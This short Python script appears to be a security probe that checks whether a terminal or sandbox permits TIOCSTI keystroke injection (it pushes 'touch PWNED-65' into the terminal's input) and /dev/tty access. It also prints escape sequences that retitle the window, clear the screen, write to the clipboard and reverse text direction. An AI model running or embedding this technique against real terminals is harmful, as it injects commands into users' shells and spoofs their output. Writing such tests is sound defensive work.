import fcntl
import os
import termios

for fd in (0, 1, 2):
    for letter in b"touch PWNED-65\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
            print("FOUND OPEN TIOCSTI")
        except OSError:
            pass
try:
    os.open("/dev/tty", os.O_RDWR)
    print("FOUND OPEN tty")
except OSError:
    pass
print("\x1b]0;PWNED\x07\x1b[31m\x9b2J\x1bc\x1bP1$r\x1b\\ \x08\x08\x08")
raise ValueError("\x1b[2J\x1b]52;c;UFdORUQ=\x07 cleared\r\n\u202e")
